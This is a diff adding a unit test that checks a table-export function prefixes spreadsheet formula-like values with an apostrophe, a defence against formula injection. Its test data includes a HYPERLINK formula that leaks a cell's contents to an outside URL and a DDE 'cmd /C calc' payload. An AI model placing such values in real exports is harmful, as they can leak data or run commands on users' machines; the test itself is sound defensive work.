@@ -62,6 +62,15 @@ test('a tab or line end inside a value becomes a space: the row keeps its cells 
   assert.deepEqual(cells.slice(0, 3), ['', 'Vragen over de wachtlijsten ', '']);
 });
 
+test('a text a spreadsheet would read as a formula gets the \' that keeps it text; numbers and other text stay as they are', () => {
+  const formula = { ...late, title: '=HYPERLINK("https://example.org/?"&A1,"Klik")', indieners: ['+cmd|\' /C calc\'!A0', '@SUM(1)'] };
+  const cells = overviewTable([formula, { ...late, title: 'Vragen over 1 + 1 = 2' }], { t: (m) => m }).split('\n').slice(1, 3).map((l) => l.split('\t'));
+  assert.deepEqual(cells[0]!.slice(1, 3), ['\'=HYPERLINK("https://example.org/?"&A1,"Klik")', '\'+cmd|\' /C calc\'!A0, @SUM(1)']);
+  assert.equal(cells[0]![6], '-12', 'days late: a number');
+  assert.equal(cells[1]![1], 'Vragen over 1 + 1 = 2');
+  assert.equal(overviewTable([{ ...late, title: '-3 graden' }], { t: (m) => m }).split('\n')[1]!.split('\t')[1], '\'-3 graden');
+});
+
 test('no documents: the header alone', () => {
   assert.equal(overviewTable([], { t: (m) => m }).split('\n').length, 2);
 });
